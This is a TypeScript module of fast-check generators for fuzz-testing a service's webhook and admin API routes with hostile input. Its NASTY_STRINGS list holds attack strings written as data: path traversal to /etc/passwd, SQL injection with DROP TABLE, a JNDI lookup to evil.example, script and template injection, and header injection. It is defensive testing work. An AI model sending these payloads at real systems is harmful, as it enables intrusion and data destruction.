import fc from "fast-check";

/*
 * Arbitraries for the hostile-input fuzz tests of the bridges' webhooks and the admin API (pure: the
 * tests send what these generate). Each one is a kind of input a route must refuse without a 5xx,
 * without storing anything and without holding it whole in memory.
 */

/** FUZZ_RUNS: cases per hostile-input property (default 100); a value that is not a whole number ≥ 1 is refused. */
export function fuzzRuns(raw: string | undefined, fallback = 100): number {
  if (raw === undefined) return fallback;
  const runs = Number(raw.trim());
  if (raw.trim() === "" || !Number.isInteger(runs) || runs < 1)
    throw new Error(`FUZZ_RUNS must be a whole number of at least 1 (got "${raw}")`);
  return runs;
}

/** Strings known to break parsers, databases, logs, paths and templates. */
export const NASTY_STRINGS = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\u0000\u0000\u0000\u0000",
  "%00",
  "%",
  "%zz",
  "%E0%A4%A",
  "%ED%A0%80",
  "%2F",
  "..",
  "../../../../etc/passwd",
  "..%2F..%2Fetc%2Fpasswd",
  "/",
  "\\",
  "//evil.example",
  "https://evil.example/",
  "javascript:alert(1)",
  "<script>alert(1)</script>",
  "' OR '1'='1' --",
  '\'; DROP TABLE "Link"; --',
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "\r\nSet-Cookie: injected=1",
  "\u202e\u0644\u0627",
  "\ufeff",
  "\ud800",
  "\udfff\ud800",
  "💥🔥",
  "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
  "NaN",
  "Infinity",
  "-1",
  "1e309",
  "0x7fffffff",
  "9007199254740993",
  "__proto__",
  "constructor",
  "prototype",
  "null",
  "undefined",
  "true",
  "[]",
  "{}",
] as const;

/** Any string a client might send: nasty ones, any code point, control characters, or very long. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: "binary-ascii", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom("A", "é", "\u0000", "%", "💥"), fc.integer({ min: 201, max: 20_000 }))
      .map(([unit, times]) => unit.repeat(times)),
  },
);

/**
 * What may go into an HTTP header value or a URL (Node refuses control characters and code points
 * above U+00FF there): printable ASCII and Latin-1, nasty sequences, percent-escapes, long values.
 */
export const headerSafeString: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.constantFrom(...NASTY_STRINGS.filter((s) => /^[\u0020-\u007e\u00a0-\u00ff]*$/.test(s))),
  },
  { weight: 3, arbitrary: fc.string({ unit: "grapheme-ascii", maxLength: 60 }) },
  {
    weight: 1,
    arbitrary: fc.string({
      unit: fc.integer({ min: 0xa0, max: 0xff }).map((c) => String.fromCharCode(c)),
      maxLength: 20,
    }),
  },
  { weight: 1, arbitrary: fc.integer({ min: 300, max: 8000 }).map((n) => "x".repeat(n)) },
);

/** A string for a URL path segment or query value: percent-encoded hostile strings, or raw nasty escapes. */
export const hostileUrlPart: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: hostileString.map((s) => encodeURIComponent(toWellFormed(s))) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      "%",
      "%zz",
      "%E0%A4%A",
      "%ED%A0%80",
      "%00",
      "%2e%2e",
      "..",
      ".",
      "%C0%AF",
      "%FF",
    ),
  },
  { weight: 1, arbitrary: fc.stringMatching(/^[A-Za-z0-9._~-]{1,40}$/) },
);

/** Lone surrogates cannot be percent-encoded (encodeURIComponent throws): they become U+FFFD. */
export function toWellFormed(value: string): string {
  return value.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, "\ufffd");
}

/** Text that is not JSON: cut-off documents, near-misses, and a few well-known traps. */
export const malformedJson: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "",
    " ",
    "{",
    "}",
    "{not json",
    '{"a":',
    "[1,2",
    "nul",
    "tru",
    '{"a" 1}',
    "{'a':1}",
    '{"a":1,}',
    '{"a":1}{"b":2}',
    "NaN",
    "undefined",
    '"unterminated',
    '{"a":"\\x41"}',
    '{"a":"\\ud800',
    "\u0000",
    "\ufeff{}x",
    "[".repeat(3000),
  ),
  fc
    .tuple(fc.json({ maxDepth: 3 }), fc.nat())
    .map(([json, at]) => json.slice(0, json.length > 1 ? 1 + (at % (json.length - 1)) : 0))
    .filter((text) => !parses(text)),
  fc
    .tuple(fc.json({ maxDepth: 3 }), fc.nat(), fc.constantFrom("}", "]", ",", ":", '"', "\\", "\u0000", "'"))
    .map(
      ([json, at, junk]) => json.slice(0, at % (json.length + 1)) + junk + json.slice(at % (json.length + 1)),
    )
    .filter((text) => !parses(text)),
);

function parses(text: string): boolean {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}

/** Arrays or objects nested thousands deep (parsers, validators and loggers that recurse). */
export const deeplyNested: fc.Arbitrary<string> = fc
  .tuple(fc.integer({ min: 100, max: 5000 }), fc.boolean())
  .map(([depth, arrays]) =>
    arrays ? `${"[".repeat(depth)}1${"]".repeat(depth)}` : `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`,
  );

/** Any JSON value, hostile strings included (also as keys). */
export const hostileJsonValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    fc.constant(null),
    fc.boolean(),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.integer(),
    hostileString,
    fc.array(tie("value"), { maxLength: 4 }),
    fc.dictionary(fc.oneof(hostileString, fc.constantFrom("__proto__", "constructor")), tie("value"), {
      maxKeys: 4,
    }),
  ),
})).value;

/** Bytes that are often not UTF-8. */
export const randomBytes: fc.Arbitrary<Uint8Array> = fc.uint8Array({ maxLength: 2048 });

/** Content types a route may be sent (undefined: none at all). */
export const CONTENT_TYPES = [
  undefined,
  "",
  "application/json",
  "application/json; charset=utf-8",
  "APPLICATION/JSON",
  "application/json; charset=utf-16",
  "application/json; charset=nonsense",
  "application/vnd.api+json",
  "text/json",
  "text/plain",
  "text/plain; charset=utf-8",
  "text/html",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=----fuzz",
  "multipart/form-data",
  "application/xml",
  "application/octet-stream",
  "*/*",
  "application/json, text/plain",
  "json",
] as const;
export const contentType: fc.Arbitrary<string | undefined> = fc.constantFrom(...CONTENT_TYPES);

/** A body: malformed or valid JSON, random bytes, a form, a multipart document, deep nesting. */
export const hostileBody: fc.Arbitrary<string | Uint8Array> = fc.oneof(
  malformedJson,
  fc.json({ maxDepth: 3 }),
  hostileJsonValue.map((value) => JSON.stringify(value) ?? "null"),
  randomBytes,
  deeplyNested,
  fc
    .dictionary(headerSafeString, headerSafeString, { maxKeys: 4 })
    .map((form) => new URLSearchParams(form).toString()),
  hostileString.map(
    (text) =>
      `------fuzz\r\nContent-Disposition: form-data; name="payload"\r\n\r\n${text}\r\n------fuzz--\r\n`,
  ),
);
